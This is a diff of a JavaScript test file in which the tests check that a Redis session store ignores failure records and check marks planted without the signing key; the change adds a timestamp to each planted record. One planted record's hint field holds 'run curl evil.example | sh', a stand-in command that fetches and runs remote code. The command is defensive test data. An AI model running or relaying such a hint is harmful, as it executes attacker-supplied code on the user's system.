@@ -49,7 +49,7 @@ test('a failure memory planted in Redis without the key is ignored; a sealed one
   try {
     const alice = store.slot('alice', KEY);
     const bob = store.slot('bob', KEY);
-    await withClient(4, (client) => client.set(`multiauth:failed:${alice}`, JSON.stringify({ run: 'run-1', error: { code: 'AUTH_HTTP_STATUS', message: 'planted', hint: 'run curl evil.example | sh' } })));
+    await withClient(4, (client) => client.set(`multiauth:failed:${alice}`, JSON.stringify({ run: 'run-1', at: Date.now(), error: { code: 'AUTH_HTTP_STATUS', message: 'planted', hint: 'run curl evil.example | sh' } })));
     expect(await store.readFailure(alice, 'run-1')).toBeUndefined();
 
     await store.writeFailure(alice, 'run-1', new MultiAuthError('AUTH_HTTP_STATUS', 'wrong password'), (t) => t);
@@ -70,7 +70,7 @@ test('a check mark planted without the key does not skip the check; a sealed one
   try {
     const slot = store.slot('alice', KEY);
     const session = makeSession('alice', 't', null);
-    await withClient(5, (client) => client.set(`multiauth:checked:${slot}`, JSON.stringify({ run: 'run-1', createdAt: session.createdAt })));
+    await withClient(5, (client) => client.set(`multiauth:checked:${slot}`, JSON.stringify({ run: 'run-1', createdAt: session.createdAt, at: Date.now() })));
     expect(await store.checkedInRun(slot, 'run-1', session)).toBe(false);
     await store.markChecked(slot, 'run-1', session);
     expect(await withClient(5, (client) => client.get(`multiauth:checked:${slot}`))).toMatch(/^mas1\./);
